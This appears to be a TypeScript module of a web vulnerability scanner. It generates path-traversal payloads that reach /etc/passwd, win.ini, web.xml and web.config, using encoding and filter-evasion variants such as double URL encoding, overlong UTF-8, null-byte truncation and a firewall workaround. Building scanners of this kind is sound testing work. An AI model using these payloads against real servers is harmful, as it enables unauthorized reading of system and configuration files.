import type { Fill } from '../../points/point.ts';
import { kernel, passwd, webConfig, webXml, winIni, type KnownFile } from './files.ts';

/** Spellings of the way up through folders, the likelier first. */

export type Climb = {
  file: KnownFile;
  value: string;
  fill?: Fill;
  /** What a search would find the same pages by: an answer that holds the file for it too is about the file, not the file. */
  control: string;
};

// Longer than any folder is deep: what is too much leads to the root all the same.
const steps = 12;
const up = (step: string, path: string) => `${step.repeat(steps)}${path}`;
const raw = { raw: true } as const;

const extensionOf = (value: string) => /\.[a-z]\w{1,5}$/i.exec(value)?.[0] ?? '';
const folderOf = (value: string) =>
  (/^[^?#]*[/\\]/.exec(value)?.[0] ?? '').replace(/^https?:\/\/[^/]*\//, '');

type Site = { windows: boolean; java: boolean; aspnet: boolean; php: boolean };

const words = (file: KnownFile, mark: string) => `${file.path.replace(/\W+/g, ' ')} ${mark}`;

export function climbs(value: string, site: Site, mark: string): Climb[] {
  const list: Climb[] = [];
  const add = (file: KnownFile, text: string, fill?: Fill) =>
    list.push({
      file,
      value: text,
      control: text.startsWith('/') ? text.replace(/^\/+/, '') : words(file, mark),
      ...(fill ? { fill } : {}),
    });
  const folder = folderOf(value);
  const extension = extensionOf(value);
  const windowsPath = winIni.path.replaceAll('/', '\\');

  add(passwd, up('../', passwd.path));
  if (site.windows) add(winIni, up('..\\', windowsPath));
  add(passwd, '/etc/passwd');
  if (folder !== '') add(passwd, `${folder}${up('../', passwd.path)}`);
  add(passwd, up('....//', passwd.path));
  if (site.java) add(webXml, '../../WEB-INF/web.xml');
  if (site.aspnet) add(webConfig, '../web.config');
  add(passwd, up('..%252f', 'etc%252fpasswd'), raw);
  if (!site.windows) add(winIni, up('../', winIni.path));
  if (extension !== '') add(passwd, `${up('../', passwd.path)}\0${extension}`);
  add(passwd, `file:///etc/passwd`);
  add(passwd, `${up('../', passwd.path)}\0`);
  add(winIni, `C:\\${windowsPath}`);
  if (!site.windows) add(winIni, up('..\\', windowsPath));
  add(passwd, up('..%c0%af', passwd.path), raw);
  add(passwd, up('%2e%2e/', passwd.path), raw);
  if (extension !== '') add(passwd, `${up('../', passwd.path)}%2500${extension}`, raw);
  add(passwd, up('..././', passwd.path));
  add(passwd, up('%252e%252e%252f', passwd.path), raw);
  add(passwd, up('..%u2215', passwd.path), raw);
  add(passwd, up('..%ef%bc%8f', passwd.path), raw);
  add(passwd, up('..;/', passwd.path));
  add(passwd, up('..\\', 'etc\\passwd'));
  add(winIni, up('....\\\\', windowsPath));
  add(winIni, up('..%255c', 'windows%255cwin.ini'), raw);
  if (folder !== '') add(winIni, `${folder}${up('..\\', windowsPath)}`);
  if (extension !== '') add(passwd, `${up('../', passwd.path)}?${extension}`);
  if (site.java) add(webXml, '/WEB-INF/web.xml');
  if (site.java) add(webXml, '../WEB-INF/web.xml');
  if (site.aspnet) add(webConfig, '../../web.config');
  if (site.aspnet) add(webConfig, '~/web.config');
  add(passwd, `/${up('../', passwd.path)}`);
  add(passwd, `//////${passwd.path}`);
  return list;
}

/** For a firewall that looks for the name of the file. */
export const beside = (mark: string): Climb => ({
  file: kernel,
  value: up('../', kernel.path),
  control: words(kernel, mark),
});

/** Addresses below a folder that lead out of it where the server itself puts paths together; as they go on the wire. */
export function paths(folder: string): { file: KnownFile; rawPath: string }[] {
  return [
    { file: passwd, rawPath: `${folder}${up('..%2f', 'etc%2fpasswd')}` },
    { file: passwd, rawPath: `${folder}${up('../', passwd.path)}` },
    { file: passwd, rawPath: `${folder}${up('.%2e/', passwd.path)}` },
    { file: winIni, rawPath: `${folder}${up('..%5c', 'windows%5cwin.ini')}` },
    { file: passwd, rawPath: `${folder}${up('%2e%2e%2f', passwd.path)}` },
    { file: passwd, rawPath: `${folder}${up('..%252f', passwd.path)}` },
    { file: passwd, rawPath: `${folder}${up('.%%32%65/', passwd.path)}` },
    { file: passwd, rawPath: `${folder}${up('..;/', passwd.path)}` },
    { file: passwd, rawPath: `${folder}${up('....//', passwd.path)}` },
    { file: passwd, rawPath: `${folder}${up('%c0%ae%c0%ae/', passwd.path)}` },
    { file: winIni, rawPath: `${folder}${up('..%c1%9c', winIni.path)}` },
  ];
}
